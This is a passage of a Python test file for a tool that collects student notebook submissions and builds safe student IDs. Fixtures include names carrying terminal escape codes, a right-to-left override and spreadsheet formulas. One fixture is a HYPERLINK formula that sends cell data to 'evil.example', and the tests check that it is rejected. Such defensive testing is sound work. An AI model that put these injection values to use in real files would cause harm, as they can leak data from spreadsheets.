    assert one["Ann Lee"] == two["Ann Lee"] == "Ann_Lee~a36e143c"
    assert one["smithjane222"] == two["smithjane222"] == "smithjane_222"
    assert two["smithjane111"] == "smithjane_111" and two["ann_lee"] == "ann_lee"


def test_canvas_and_moodle_people_with_one_name_stay_two(tmp_path):
    dl = tmp_path / "dl"
    touch(dl / "smithjane_111_901_02_value.ipynb")
    touch(dl / "smithjane_222_902_02_value.ipynb")
    touch(dl / "Jane Smith_101_assignsubmission_file_02_value.ipynb")
    touch(dl / "Jane Smith_102_assignsubmission_file_02_value.ipynb")
    found = discover(dl, ["02_value"], tmp_path / "work")
    by = {s.student: s for s in found.submissions}
    assert set(by) == {"smithjane_111", "smithjane_222", student_id("Jane Smith_101"),
                       student_id("Jane Smith_102")}
    assert {s.name for s in found.submissions} == {"smithjane", "Jane Smith"}
    assert all(s.path is not None for s in found.submissions)
    assert by["smithjane_222"].student_ids == {"canvas_user": "222", "canvas_submission": "902"}


def test_control_characters_and_newlines_in_names_never_make_an_id(tmp_path):
    names = ["ann\n", "ben\x1b[31m", "cat\u202eraboof", "=HYPERLINK(\"x\")", "dan\r"]
    for name in names:
        touch(tmp_path / "class" / name / "02_value.ipynb")
    touch(tmp_path / "class" / "eve" / "=1+1\nnotes.txt")
    found = discover(tmp_path / "class", ["02_value"], tmp_path / "work")
    assert {s.name for s in found.submissions} == set(names) | {"eve"}
    for s in found.submissions:
        assert ids.STUDENT_ID.fullmatch(s.student) or "~" in s.student
        assert s.student.isprintable() and "\n" not in s.student and "/" not in s.student
    assert "ann" not in {s.student for s in found.submissions}
    assert found.unrecognised == ["eve/=1+1\nnotes.txt"]     # kept raw; report.txt escapes it
    # The control: a pattern anchored with ^...$ lets a trailing newline through as an id.
    import re
    assert re.match("^" + ids.STUDENT_ID.pattern + "$", "ann\n")


def test_a_name_that_is_not_utf8_gets_an_id_and_a_storable_name(tmp_path):
    (tmp_path / "class").mkdir()
    os.mkdir(os.path.join(os.fsencode(tmp_path / "class"), b"caf\xe9"))
    touch(Path(os.fsdecode(os.path.join(os.fsencode(tmp_path / "class"), b"caf\xe9")))
          / "02_value.ipynb")
    found = discover(tmp_path / "class", ["02_value"], tmp_path / "work")
    (row,) = found.submissions
    assert row.student.startswith("caf~") and row.name == "caf\\xe9"
    row.name.encode("utf-8")          # storable, writable


def test_two_names_with_one_id_stop_discovery_naming_both(tmp_path, monkeypatch):
    touch(tmp_path / "class" / "ann lee" / "02_value.ipynb")
    touch(tmp_path / "class" / "ann  lee" / "02_value.ipynb")
    monkeypatch.setattr(ids, "fingerprint", lambda raw: "00000000")   # a collision, forced
    with pytest.raises(SubmissionError) as caught:
        discover(tmp_path / "class", ["02_value"], tmp_path / "work")
    message = str(caught.value)
    assert "\n" not in message and "'ann lee'" in message and "'ann  lee'" in message
    assert "ann_lee~00000000" in message


def test_student_ids_are_stable_across_machines():
    import hashlib
    assert student_id("Ann Lee") == "Ann_Lee~" + hashlib.sha256(b"Ann Lee").hexdigest()[:8]
    assert student_id("ann") == "ann" and student_id("José Núñez").startswith("Jose_Nunez~")
    assert student_id("张伟").startswith("learner~") and student_id("---").startswith("learner~")


def test_a_timestamp_with_a_formula_is_an_unknown_time(tmp_path):
    folder = tmp_path / "submitted" / "ann" / "02_value"
    touch(folder / "02_value.ipynb")
    touch(folder / "timestamp.txt", '=HYPERLINK("http://evil.example/?"&A1,"on time")\n')
    (row,) = discover(tmp_path, ["02_value"], tmp_path / "work").submissions
    assert row.timestamp == untrusted.UNKNOWN_TIME
    assert row.warnings == ("submitted/ann/02_value/timestamp.txt: not a time nbgrader writes "
                            "nor ISO 8601: '=HYPERLINK(\"http://evil.example/?\"&A1,\"on "
                            "time\")'; lateness unknown",)
